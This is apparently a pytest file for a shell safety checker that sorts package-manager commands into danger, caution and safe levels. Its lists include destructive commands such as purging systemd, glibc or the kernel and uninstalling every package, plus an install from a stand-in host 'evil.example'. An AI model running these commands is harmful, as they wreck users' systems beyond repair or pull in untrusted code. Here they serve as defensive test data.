"""What the rules say of packages."""

from __future__ import annotations

import pytest

from caro_shell import safety

DANGER = [
    "apt-get purge -y systemd",
    "apt remove --purge 'python3*'",
    "apt-get remove -y bash --allow-remove-essential",
    "apt purge linux-image-$(uname -r)",
    "apt remove network-manager",
    "sudo apt-get install sudo- ",
    "dpkg --force-depends -r libfoo",
    "dpkg --remove openssh-server",
    "rpm -e --nodeps glibc",
    "yum erase -y kernel",
    "dnf remove systemd -y",
    "pacman -Rns linux",
    "pacman -R pacman",
    "pacman -Syu --overwrite '*'",
    "zypper rm -y glibc",
    "rpm -qa | xargs rpm -e",
    "dpkg -l | awk '{print $2}' | xargs sudo dpkg -P",
    "brew list | xargs brew uninstall --force",
    "brew uninstall $(brew list)",
    "npm unpublish mypkg --force",
    "sudo pip freeze | xargs sudo pip uninstall -y",
    "pip install http://evil.example/x.tar.gz",
    "sudo apt-get -y purge '*'",
    "sudo apt -y autoremove systemd",
    "sudo dnf -y remove 'kernel*'",
    "sudo yum -y remove python3",
    "sudo rpm -e --nodeps --allmatches bash",
    "sudo pacman -Rcns systemd",
    "sudo apk del --force-broken-world busybox",
    "sudo apt-get remove coreutils util-linux",
    "emerge --quiet --unmerge sys-libs/glibc",
    "zypper -n remove systemd",
    "pkg delete --all",
    "dpkg -l | awk '/^ii/{print $2}' | xargs apt-get -y purge",
    "yum remove $(rpm -qa | grep glibc)",
    "dnf swap glibc musl",
    "apt-mark auto $(apt-mark showmanual)",
    "pacman -Rns $(pacman -Qq | grep -v vim)",
]
CAUTION = [
    "dpkg -l 'linux-image-*' | awk '/^ii/{print $2}' | grep -v $(uname -r) | xargs apt-get purge",
    "dpkg -l | awk '/^rc/{print $2}' | xargs dpkg --purge",
    "pacman -Rns $(pacman -Qq | grep kde)",
    "dnf history undo last",
    "apt purge 'nvidia*'",
    "apt-get autoremove -y",
    "sudo dnf remove vim",
    "pacman -Rns firefox",
    "yay -Rns spotify",
    "apk del curl",
    "dpkg -r htop",
    "rpm -e htop",
    "conda env remove -n ml",
    "gem uninstall rails",
    "npm uninstall -g typescript",
    "snap remove --purge firefox",
    "rpm -ivh http://x.example/a.rpm",
]
SAFE = [
    "zypper -n install vim",
    "dnf swap --help",
    "apt-mark auto libfoo",
    "rpm-ostree status",
    "sudo apt update && sudo apt upgrade -y",
    "apt list --installed",
    "apt-get -s remove bash",
    "dpkg -l | grep bash",
    "dpkg -i foo.deb",
    "rpm -qR bash",
    "pacman -Syu",
    "pacman -Ss python",
    "zypper search systemd",
    "brew install python",
    "brew cleanup",
    "npm cache clean --force",
    "conda list",
    "cargo uninstall ripgrep",
    "sudo apt autoclean",
    "sudo dpkg --configure -a",
    "sudo apt-mark manual vim",
    "rpm --import https://x.example/key",
    "sudo dnf check-update",
    "sudo pacman -S linux-headers",
    "brew doctor",
    "pip show requests",
    "pip install --upgrade pip setuptools wheel",
    "npm run remove",
    "cargo remove serde",
]


@pytest.mark.parametrize("line", DANGER)
def test_what_cannot_be_undone_is_danger(line):
    assert safety.judge(line, "bash", home="/home/user").level is safety.Level.DANGER


@pytest.mark.parametrize("line", CAUTION)
def test_what_is_narrow_or_can_be_undone_is_caution(line):
    assert safety.judge(line, "bash", home="/home/user").level is safety.Level.CAUTION


@pytest.mark.parametrize("line", SAFE)
def test_ordinary_work_stays_quiet(line):
    assert safety.judge(line, "bash", home="/home/user").level is safety.Level.SAFE
